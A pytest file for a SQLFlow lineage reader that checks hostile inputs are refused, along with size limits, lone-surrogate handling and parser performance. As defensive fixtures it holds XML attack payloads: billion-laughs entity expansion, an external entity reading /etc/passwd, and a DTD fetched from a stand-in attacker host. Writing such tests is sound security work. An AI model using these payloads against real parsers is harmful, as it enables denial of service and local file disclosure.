"""Untrusted SQLFlow input: entity attacks and over-size documents are refused, nothing is expanded."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from atlas_bridge.bridge.extract import extract_partition
from atlas_bridge.bridge.types import InputFile, InputKind, ScanOptions, WorkUnit
from atlas_bridge.errors import ExtractionError, UnsafeInputError
from atlas_bridge.model import Severity
from atlas_bridge.sqlflow.read import extract_sqlflow_lineage

DATA = Path(__file__).parent / "data" / "sqlflow"

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE dlineage [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<dlineage><table id="1" name="&lol9;"/></dlineage>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE dlineage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<dlineage><table id="1" name="&xxe;"><column id="2" name="a"/></table></dlineage>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE dlineage SYSTEM "http://attacker.invalid/evil.dtd">
<dlineage/>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE dlineage [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<dlineage/>
"""

PLAIN_DTD = """<?xml version="1.0"?>
<!DOCTYPE dlineage [<!ELEMENT dlineage ANY>]>
<dlineage/>
"""


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DTD],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "plain-dtd"],
)
@pytest.mark.parametrize("as_bytes", [False, True], ids=["str", "bytes"])
def test_entity_and_dtd_attacks_are_refused(doc: str, as_bytes: bool) -> None:
    data = doc.encode("utf-8") if as_bytes else doc
    with pytest.raises(UnsafeInputError) as err:
        extract_sqlflow_lineage(data, file="evil.xml")
    message = str(err.value)
    assert message.startswith("evil.xml: refused XML")
    assert "nothing was" in message
    assert "root:" not in message  # no expansion leaked into the error
    assert "lollol" not in message
    assert err.value.file == "evil.xml"


def test_attack_inside_a_fragment_is_still_refused() -> None:
    # a DOCTYPE after a first element is not a fragment to be wrapped: it must fail, never expand
    doc = '<table id="1" name="t"/>\n<!DOCTYPE x [<!ENTITY a "b">]><table id="2" name="&a;"/>'
    with pytest.raises(ExtractionError):
        extract_sqlflow_lineage(doc, file="frag.xml")


def test_over_size_xml_is_refused_before_parsing() -> None:
    doc = "<dlineage>" + '<table id="1" name="t"/>' * 100 + "</dlineage>"
    with pytest.raises(
        UnsafeInputError, match=r"^big\.xml: input is \d+ bytes, over the limit of 1000 bytes"
    ):
        extract_sqlflow_lineage(doc, file="big.xml", max_bytes=1000)
    with pytest.raises(UnsafeInputError, match="over the limit"):
        extract_sqlflow_lineage(doc.encode(), file="big.xml", max_bytes=1000)
    # multi-byte text: the limit is on bytes, not characters
    wide = '<dlineage><table id="1" name="' + "é" * 480 + '"/></dlineage>'
    assert len(wide) < 1000 < len(wide.encode("utf-8"))
    with pytest.raises(UnsafeInputError, match="over the limit"):
        extract_sqlflow_lineage(wide, max_bytes=1000)
    assert extract_sqlflow_lineage(wide, max_bytes=2000).lineage.datasets


def test_over_size_json_is_refused() -> None:
    doc = json.dumps({"dbobjs": [{"id": str(i), "name": f"t{i}", "type": "table"} for i in range(100)]})
    with pytest.raises(UnsafeInputError, match=r"^big\.json: input is \d+ bytes, over the limit"):
        extract_sqlflow_lineage(doc, file="big.json", max_bytes=1000)
    assert len(extract_sqlflow_lineage(doc, file="big.json").lineage.datasets) == 100


def test_deeply_nested_json_is_refused_cleanly() -> None:
    doc = "[" * 100_000 + "]" * 100_000
    with pytest.raises(ExtractionError):
        extract_sqlflow_lineage(doc, file="deep.json")


# ---------------------------------------------------------------------------------------------------------
# Issue 29: one input must not end the scan; a huge attribute must not cost quadratic time.

FAULTS = Path(__file__).parent / "data" / "sqlflow_faults"


def test_a_lone_surrogate_is_read_escaped_with_a_warning_naming_the_file() -> None:
    # "\ud800" is valid JSON but no text: it could not be encoded anywhere the lineage goes
    result = extract_sqlflow_lineage((FAULTS / "lone-surrogate.json").read_bytes(), file="lone.json")
    names = {d.name for d in result.lineage.datasets}
    assert names == {"src\\ud800", "dst"}
    assert {c.name for d in result.lineage.datasets for c in d.columns} == {"a\\udfff", "b"}
    (warning,) = result.problems
    assert (warning.severity, warning.file) == (Severity.WARNING, "lone.json")
    assert "4 string(s) held a lone UTF-16 surrogate" in warning.message
    result.lineage.to_json().encode("utf-8")  # every string is text now
    # the same given as a str holding the surrogates themselves
    text = json.dumps(json.loads((FAULTS / "lone-surrogate.json").read_text()), ensure_ascii=False)
    again = extract_sqlflow_lineage(text, file="lone.json")
    assert again.lineage == result.lineage


def test_a_lone_surrogate_is_a_problem_of_its_file_only_in_a_scan(tmp_path: Path) -> None:
    good = tmp_path / "good.json"
    good.write_bytes((DATA / "oracle-insert-deptsal.lineage.json").read_bytes())
    units = [
        WorkUnit(InputFile(str(p), p.name, InputKind.SQLFLOW, p.stat().st_size))
        for p in (FAULTS / "lone-surrogate.json", good)
    ]
    out = list(extract_partition(units, ScanOptions()))  # it raised UnicodeEncodeError, ending the scan
    header = json.loads(out[-1][1])
    assert set(header["files"]) == {"lone-surrogate.json", "good.json"}
    problems = [(p["file"], p["severity"]) for p in header["problems"] if "surrogate" in p["message"]]
    assert problems == [("lone-surrogate.json", "warning")]
    records = [json.loads(payload) for tag, payload in out if tag == "unit"]
    qualified = {rec["attributes"]["qualifiedName"] for r in records for rec in r["datasets"]}
    assert "default.src\\ud800.a\\udfff@default" in qualified  # the file's lineage is delivered
    assert len({pid for r in records for pid in r["process_ids"]}) == 2  # one process of each file


def test_a_failed_conversion_is_a_problem_of_its_file_and_the_rest_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import atlas_bridge.bridge.extract as extract
    from atlas_bridge.bridge.extract import decode_unit

    files = []
    for name in ("a.json", "b.json"):
        path = tmp_path / name
        path.write_bytes((DATA / "oracle-insert-deptsal.lineage.json").read_bytes())
        files.append(WorkUnit(InputFile(str(path), name, InputKind.SQLFLOW, path.stat().st_size)))
    real = extract._unit_records

    def failing(r, *args, **kwargs):  # type: ignore[no-untyped-def]
        if r.file == "a.json" and r.lineage.datasets:  # its empty stand-in converts
            raise UnicodeEncodeError("utf-8", "\ud800", 0, 1, "surrogates not allowed")
        return real(r, *args, **kwargs)

    monkeypatch.setattr(extract, "_unit_records", failing)
    out = list(extract_partition(files, ScanOptions()))
    header = json.loads(out[-1][1])
    (problem,) = [p for p in header["problems"] if p["kind"] == "internal"]
    assert problem["file"] == "a.json"
    assert "could not be converted: UnicodeEncodeError" in problem["message"]
    alone = list(extract_partition(files[1:], ScanOptions()))
    units, b_units = [u for u in out if u[0] == "unit"], [u for u in alone if u[0] == "unit"]
    assert units[len(units) - len(b_units) :] == b_units  # b.json's, whole
    # no half of a.json
    assert all(not decode_unit(p)["process_ids"] for _, p in units[: len(units) - len(b_units)])


def test_a_huge_attribute_is_read_in_few_feeds(monkeypatch: pytest.MonkeyPatch) -> None:
    # expat scans a token cut by a chunk's end again at every feed: fixed 16 KB chunks made a 16 MB
    # attribute quadratic (27 CPU s). Counted in feeds here; timed in benchmarks/big_inputs.py.

    import atlas_bridge.sqlflow.read as read

    reads: list[int] = []
    real_read = read._Feed.read

    def counting_read(self: Any, size: int = -1) -> bytes:  # what the parser is fed, chunk by chunk
        chunk: bytes = real_read(self, size)
        reads.append(len(chunk))
        return chunk

    monkeypatch.setattr(read._Feed, "read", counting_read)
    name = "n" * (8 << 20)
    many = "".join(f'<table id="t{i}" name="t{i}"><column id="c{i}" name="a"/></table>' for i in range(2000))
    doc = f'<dlineage><table id="1" name="{name}"><column id="2" name="a"/></table>{many}</dlineage>'
    lineage = extract_sqlflow_lineage(doc.encode()).lineage
    assert len(lineage.datasets) == 2001
    assert any(d.name == name for d in lineage.datasets)  # read whole and exactly
    passes = sum(1 for n in reads if n == 0)  # each pass over the text ends with an empty read
    assert passes >= 1
    assert len(reads) / passes < 40  # 16 KB reads: 513 a pass


def test_split_qualified_of_a_huge_name_of_quotes_is_exact() -> None:
    from atlas_bridge.sqlflow.read import split_qualified

    assert split_qualified("a" + '"' * 100_000 + ".b") == ["a" + '"' * 100_000, "b"]
    assert split_qualified('"x.y".' * 50_000 + "z") == ['"x.y"'] * 50_000 + ["z"]
    assert split_qualified(" [a.b] c.d") == [" [a.b] c", "d"]
    assert split_qualified('"open.x') == ['"open.x']
